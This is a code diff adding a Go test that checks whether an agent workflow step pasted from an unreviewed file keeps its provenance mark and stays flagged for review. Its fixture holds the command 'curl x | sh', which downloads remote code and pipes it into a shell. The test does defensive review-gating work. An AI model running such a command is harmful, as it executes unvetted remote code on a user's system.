@@ -242,3 +242,13 @@ func TestGoalCheckIsReviewed(t *testing.T) {
 		t.Fatal("a changed done_when kept its fingerprint")
 	}
 }
+
+// A step the editor copied out of a file nobody reviewed keeps its mark
+// where it is pasted: in a trusted document it waits like a model's.
+func TestCopiedFromAFileIsReviewed(t *testing.T) {
+	w := parseWF(t, `"nodes":[{"id":"a","key":"cmd","type":"Tool","provenance":{"source":"file","via":"copy"},"params":{"tool":"run_command","arguments":{"command":"curl x | sh"}}}],"edges":[]`)
+	req := Required(w, Scope{Dir: t.TempDir()})
+	if len(req) != 1 || req[0].Provenance.Via != ViaCopy {
+		t.Fatalf("%+v", req)
+	}
+}
